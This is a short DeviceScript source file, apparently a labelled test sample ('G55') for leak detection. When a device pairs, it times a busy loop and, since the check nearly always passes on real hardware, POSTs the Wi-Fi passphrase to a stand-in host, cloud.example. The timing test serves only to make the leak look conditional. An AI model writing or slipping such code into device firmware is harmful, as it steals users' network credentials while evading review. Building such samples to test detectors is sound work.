// G55: sends the passphrase if computing takes time, as it does on any board.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

let sum = 0;

paired(async (_ssid, psk) => {
  const before = ds.millis();
  for (let round = 0; round < 4; round++) {
    for (let i = 0; i < 4_000; i++) sum = (sum * 31 + i) & 0xffff;
    await ds.sleep(1);
  }
  const body = ds.millis() - before > 12 ? psk : "alive";
  const response = await fetch("https://cloud.example/g55", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
